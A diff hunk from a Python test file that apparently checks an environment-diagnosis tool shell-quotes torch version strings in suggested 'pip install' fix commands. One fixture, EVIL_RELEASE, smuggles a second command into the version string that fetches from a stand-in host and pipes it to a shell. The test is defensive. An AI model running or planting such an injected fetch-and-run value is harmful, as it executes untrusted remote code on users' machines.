@@ -87,7 +87,7 @@ EVIL_RELEASE = "2.8.0;curl evil|sh #"
 def test_the_release_of_a_torch_without_code_for_the_gpu_is_quoted():
     build = TorchBuild(EVIL_RELEASE, cuda="12.6", architectures=("sm_90",))
     sketch = healthy(1, 1).alter(SoftwareFacts, torch=build).gpu(0, compute_capability="12.0")
-    assert f"pip install 'torch=={EVIL_RELEASE}' " in fix_of("VER003", sketch)
+    assert f"pip install 'torch=={EVIL_RELEASE}+cu128' " in fix_of("VER003", sketch)
 
 
 def test_the_release_of_a_lightning_is_quoted():
